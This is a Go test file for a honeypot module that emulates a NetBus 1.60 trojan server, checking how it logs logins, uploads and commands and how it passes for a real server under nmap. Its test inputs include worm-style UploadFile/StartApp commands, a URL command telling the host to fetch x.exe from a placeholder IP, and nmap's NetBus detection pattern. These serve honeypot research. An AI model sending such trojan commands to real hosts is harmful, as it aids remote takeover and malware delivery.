package netbus

import (
	"bufio"
	"bytes"
	"net/netip"
	"strconv"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/smallpot/smallpot/internal/config"
	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/service"
	"github.com/smallpot/smallpot/internal/service/servicetest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func newServer(t testing.TB, edit func(*Config)) *Server {
	t.Helper()
	cfg := DefaultConfig(service.ProfileWindows2000)
	if edit != nil {
		edit(cfg)
	}
	s, err := New(cfg, service.Env{Profile: service.ProfileWindows2000})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestTranscripts(t *testing.T) {
	servicetest.RunTranscripts(t, "testdata", "netbus", func() any {
		return newServer(t, nil).ForPort(ControlPort)
	}, servicetest.TranscriptOptions{})
}

// A server whose owner set a password ("x" in the banner).
func TestTranscriptsProtected(t *testing.T) {
	servicetest.RunTranscripts(t, "testdata/protected", "netbus", func() any {
		return newServer(t, func(c *Config) { c.Persona.Password = "letmein" }).ForPort(ControlPort)
	}, servicetest.TranscriptOptions{})
}

// client is a NetBus client speaking "\r"-ended lines.
type client struct {
	t  *testing.T
	rd *bufio.Reader
	w  func([]byte)
}

func dialClient(t *testing.T, h *servicetest.Harness) *client {
	c := h.Dial(t)
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	return &client{t: t, rd: bufio.NewReader(c), w: func(b []byte) {
		if _, err := c.Write(b); err != nil {
			t.Fatal(err)
		}
	}}
}

func (c *client) line() string {
	c.t.Helper()
	s, err := c.rd.ReadString('\r')
	if err != nil {
		c.t.Fatalf("reading a line: %q, %v", s, err)
	}
	return strings.TrimSuffix(s, "\r")
}

func (c *client) send(line string) { c.w([]byte(line + "\r")) }

// The Chainsaw worm's way in: UploadFile on the control port, the file on
// the upload port, then StartApp.
func TestUpload(t *testing.T) {
	srv := newServer(t, nil)
	ctl := servicetest.Start(t, "netbus", srv.ForPort(ControlPort), nil)
	up := servicetest.Start(t, "netbus", srv.ForPort(UploadPort), nil)

	c := dialClient(t, ctl)
	if got := c.line(); got != "NetBus 1.60 " {
		t.Fatalf("banner %q", got)
	}
	c.send(`UploadFile;Chainsaw.exe;6144;\`)
	if got := c.line(); got != "UploadReady" {
		t.Fatalf("UploadFile answered %q; want UploadReady", got)
	}
	data := make([]byte, 6144)
	for i := range data {
		data[i] = byte(i * 7)
	}
	d := up.Dial(t)
	// More than announced: the server reads what was announced.
	if _, err := d.Write(append(bytes.Clone(data), "trailing"...)); err != nil {
		t.Fatal(err)
	}
	_ = d.CloseWrite()
	evs := up.WaitClosed(t, 1)
	ups := servicetest.OfKind(evs, event.KindUpload)
	if len(ups) != 1 {
		t.Fatalf("got %d upload events: %s", len(ups), servicetest.Summary(evs))
	}
	u := ups[0].Detail.(*event.Upload)
	if u.Name != "Chainsaw.exe" || u.Size != 6144 || u.Truncated || u.Via != "netbus" {
		t.Errorf("upload %+v; want Chainsaw.exe, 6144 bytes, not truncated, via netbus", u)
	}
	if got, ok := up.Samples.Get(u.SHA256); !ok || !bytes.Equal(got, data) {
		t.Errorf("the sample store does not hold the uploaded bytes")
	}
	s := servicetest.OfKind(evs, event.KindSample)
	if len(s) != 1 || s[0].Detail.(*event.Sample).Source != "netbus.upload" || s[0].Detail.(*event.Sample).Name != "Chainsaw.exe" {
		t.Errorf("sample events %s; want one netbus.upload named Chainsaw.exe", servicetest.Summary(s))
	}

	c.send(`StartApp;\Chainsaw.exe`)
	c.send("GetVolume")
	if got := c.line(); got != "Volume;0;0;0" {
		t.Fatalf("GetVolume answered %q", got)
	}
	cmds := servicetest.OfKind(ctl.Events.Events(), event.KindCommand)
	if len(cmds) != 3 {
		t.Fatalf("got %d command events; want 3", len(cmds))
	}
	if d := cmds[1].Detail.(*event.Command); d.Line != `StartApp;\Chainsaw.exe` || d.Shell != "netbus" || !d.Known || d.Output != "" {
		t.Errorf("StartApp recorded as %+v", d)
	}
}

func TestUploadBounds(t *testing.T) {
	srv := newServer(t, func(c *Config) { c.MaxUpload = 100 })
	up := servicetest.Start(t, "netbus", srv.ForPort(UploadPort), nil)
	from := netip.MustParseAddr("127.0.0.1")

	// Announced larger than max_upload: cut and marked.
	srv.expect(from, Upload{Name: "big.exe", Size: 1000})
	up.Exchange(t, bytes.Repeat([]byte("A"), 1000), 5*time.Second)
	// Not announced: kept all the same, without a name.
	up.Exchange(t, []byte("unannounced bytes"), 5*time.Second)
	// Nothing sent: nothing recorded.
	up.Exchange(t, nil, 5*time.Second)
	evs := up.WaitClosed(t, 3)
	ups := servicetest.OfKind(evs, event.KindUpload)
	if len(ups) != 2 {
		t.Fatalf("got %d upload events; want 2: %s", len(ups), servicetest.Summary(evs))
	}
	if u := ups[0].Detail.(*event.Upload); u.Name != "big.exe" || u.Size != 100 || !u.Truncated {
		t.Errorf("oversized upload %+v; want big.exe, 100 bytes, truncated", u)
	}
	if u := ups[1].Detail.(*event.Upload); u.Name != "" || u.Size != 17 || u.Truncated {
		t.Errorf("unannounced upload %+v; want no name, 17 bytes, not truncated", u)
	}
}

func TestPendingUploads(t *testing.T) {
	now := time.Date(2000, 9, 1, 12, 0, 0, 0, time.UTC)
	srv := newServer(t, nil)
	srv.now = func() time.Time { return now }
	a := netip.MustParseAddr("192.0.2.1")
	srv.expect(a, Upload{Name: "a.exe"})
	if u, ok := srv.take(a); !ok || u.Name != "a.exe" {
		t.Fatalf("take = %+v, %v; want a.exe", u, ok)
	}
	if _, ok := srv.take(a); ok {
		t.Fatalf("an upload was taken twice")
	}
	srv.expect(a, Upload{Name: "late.exe"})
	now = now.Add(srv.cfg.UploadWait + time.Second)
	if _, ok := srv.take(a); ok {
		t.Fatalf("an upload announced longer than upload_wait ago was still awaited")
	}
	// The table is bounded.
	for i := range maxPending + 10 {
		srv.expect(netip.AddrFrom4([4]byte{10, 0, byte(i >> 8), byte(i)}), Upload{Name: strconv.Itoa(i)})
		now = now.Add(time.Millisecond)
	}
	if n := len(srv.pending); n != maxPending {
		t.Fatalf("%d pending uploads; want the bound %d", n, maxPending)
	}
	if _, ok := srv.take(netip.AddrFrom4([4]byte{10, 0, 0, 0})); ok {
		t.Errorf("the oldest announcement survived a full table")
	}
	if u, ok := srv.take(netip.AddrFrom4([4]byte{10, 0, 4, 9})); !ok || u.Name != "1033" {
		t.Errorf("the newest announcement = %+v, %v; want 1033", u, ok)
	}
}

// Every line is a command event; every Password line a login too.
func TestEvents(t *testing.T) {
	h := servicetest.Start(t, "netbus", newServer(t, nil).ForPort(ControlPort), nil)
	out := h.Exchange(t, []byte("Password;0;hunter2\rGetInfo\rURL;http://198.51.100.7/x.exe\r"), 5*time.Second)
	if want := "NetBus 1.60 \rAccess;0\rInfo;"; !strings.HasPrefix(string(out), want) {
		t.Fatalf("got %q; want it to start %q", out, want)
	}
	evs := h.WaitClosed(t, 1)
	logins := servicetest.OfKind(evs, event.KindLogin)
	if len(logins) != 1 {
		t.Fatalf("got %d logins; want 1", len(logins))
	}
	if l := logins[0].Detail.(*event.Login); l.Password != "hunter2" || l.Method != "netbus" || l.Success {
		t.Errorf("login %+v", l)
	}
	if n := len(servicetest.OfKind(evs, event.KindCommand)); n != 3 {
		t.Errorf("got %d commands; want 3", n)
	}
	dl := servicetest.OfKind(evs, event.KindDownload)
	if len(dl) != 1 || dl[0].Detail.(*event.Download).URL != "http://198.51.100.7/x.exe" {
		t.Errorf("downloads %v; want the URL command's", dl)
	}
}

func TestMaxCommands(t *testing.T) {
	h := servicetest.Start(t, "netbus", newServer(t, func(c *Config) { c.MaxCommands = 2 }).ForPort(ControlPort), nil)
	out := h.Exchange(t, []byte("GetVolume\rGetVolume\rGetVolume\r"), 5*time.Second)
	if got := strings.Count(string(out), "Volume;"); got != 2 {
		t.Errorf("answered %d of 3 commands with max_commands 2: %q", got, out)
	}
}

func TestDefaultConfig(t *testing.T) {
	w := DefaultConfig(service.ProfileWindows2000)
	l := DefaultConfig(service.ProfileLinuxIoT)
	if !w.Enabled || l.Enabled {
		t.Errorf("enabled: windows2000 %v, linux-iot %v; want true, false", w.Enabled, l.Enabled)
	}
	for _, c := range []*Config{w, l} {
		if err := c.Validate(); err != nil {
			t.Errorf("defaults do not validate: %v", err)
		}
	}
	if got := w.Describe(); got != "NetBus 1.60" {
		t.Errorf("Describe = %q", got)
	}
}

func TestValidate(t *testing.T) {
	for _, tt := range []struct {
		name string
		edit func(*Config)
	}{
		{"version", func(c *Config) { c.Persona.Version = "" }},
		{"version with cr", func(c *Config) { c.Persona.Version = "1.60\r" }},
		{"password with separator", func(c *Config) { c.Persona.Password = "a;b" }},
		{"application with bar", func(c *Config) { c.Persona.Applications = []string{"a|b"} }},
		{"volume", func(c *Config) { c.Persona.Volume = []int{1} }},
		{"upload port not listened on", func(c *Config) { c.Ports = []int{12345} }},
		{"no control port", func(c *Config) { c.Ports = []int{12346} }},
		{"max upload", func(c *Config) { c.MaxUpload = 0 }},
		{"upload wait", func(c *Config) { c.UploadWait = 0 }},
		{"max line", func(c *Config) { c.MaxLine = 1 }},
		{"max commands", func(c *Config) { c.MaxCommands = 0 }},
	} {
		c := DefaultConfig(service.ProfileWindows2000)
		tt.edit(c)
		if err := c.Validate(); err == nil {
			t.Errorf("%s: Validate accepted a bad config", tt.name)
		}
	}
	c := DefaultConfig(service.ProfileWindows2000)
	c.Ports, c.UploadPort = []int{20034}, 0
	if err := c.Validate(); err != nil {
		t.Errorf("a control port without upload port: %v", err)
	}
}

func runNmap(t *testing.T, h *servicetest.Harness, args ...string) string {
	t.Helper()
	return servicetest.Nmap(t, h.Addr.Port(), 2*time.Minute, args...)
}

// nmap -sV names the NetBus trojan from the banner alone, through
// nmap-service-probes' NULL-probe line
//
//	match netbus m|^NetBus ([\d.]+).*\r$| p/NetBus trojan/ v/$1/ o/Windows/
//
// and its netbus-version script, which sends "Password;0;" and takes a
// server that does not answer for the NetBuster honeypot, finds nothing
// to say.
func TestNmapNamesNetBus(t *testing.T) {
	h := servicetest.Start(t, "netbus", newServer(t, nil).ForPort(ControlPort), nil)
	out := runNmap(t, h)
	if !strings.Contains(out, "NetBus trojan 1.60") {
		t.Fatalf("nmap did not name NetBus trojan 1.60:\n%s", out)
	}
	if strings.Contains(strings.ToLower(out), "netbuster") || strings.Contains(out, "honeypot") {
		t.Fatalf("nmap took the server for a honeypot:\n%s", out)
	}
}

// nmap's NetBus scripts read the server as they would a real one.
func TestNmapNetBusScripts(t *testing.T) {
	h := servicetest.Start(t, "netbus", newServer(t, nil).ForPort(ControlPort), nil)
	out := runNmap(t, h, "--script", "netbus-info,netbus-version,netbus-auth-bypass")
	t.Logf("nmap:\n%s", out)
	for _, want := range []string{
		"NetBus trojan 1.60",
		`Program Path: C:\WINNT\Patch.exe`,
		"Restart persistent: Yes",
		"Login ID: Administrator",
		"Clients connected to this host: 1",
		"TCP-port: 12345",
		"Internet Information Services",
		"127.0.0.1",
		"Wave: 0",
		"netbus-auth-bypass: Vulnerable",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("nmap output lacks %q", want)
		}
	}
	if strings.Contains(strings.ToLower(out), "netbuster") || strings.Contains(out, "honeypot") {
		t.Errorf("nmap took the server for a honeypot")
	}
	evs := h.Events.Events()
	if n := len(servicetest.OfKind(evs, event.KindLogin)); n < 3 {
		t.Errorf("got %d login events from the scripts; want at least 3", n)
	}
}

// With a password, the banner says so and nmap's info script, which
// tries the empty password, is turned away.
func TestNmapProtected(t *testing.T) {
	h := servicetest.Start(t, "netbus", newServer(t, func(c *Config) {
		c.Persona.Password, c.Persona.SuperLogin = "letmein", false
	}).ForPort(ControlPort), nil)
	out := runNmap(t, h, "--script", "netbus-info,netbus-version")
	if !strings.Contains(out, "NetBus trojan 1.60") || strings.Contains(out, "Program Path") {
		t.Fatalf("nmap against a protected server:\n%s", out)
	}
}

// The section decodes strictly over the profile's defaults, and the
// effective configuration renders.
func TestConfigSection(t *testing.T) {
	c, err := config.Parse([]byte(`
profile: linux-iot
services:
  netbus:
    enabled: true
    persona:
      password: letmein
      applications: [Calculator]
      volume: [1, 2, 3]
`))
	if err != nil {
		t.Fatal(err)
	}
	rs, err := c.ResolveServices()
	if err != nil {
		t.Fatal(err)
	}
	var got *Config
	for _, r := range rs {
		if r.Module.Name == "netbus" {
			got = r.Config.(*Config)
		}
	}
	if got == nil || !got.Enabled || got.Persona.Password != "letmein" || got.Persona.Version != "1.60" ||
		len(got.Persona.Applications) != 1 || got.Persona.Volume[2] != 3 || got.UploadPort != UploadPort {
		t.Fatalf("resolved %+v", got)
	}
	if _, err := c.Effective(); err != nil {
		t.Fatal(err)
	}
	bad, err := config.Parse([]byte("services:\n  netbus:\n    persona:\n      pasword: x\n"))
	if err == nil {
		_, err = bad.ResolveServices()
	}
	if err == nil {
		t.Fatalf("a misspelt key was accepted")
	}
}
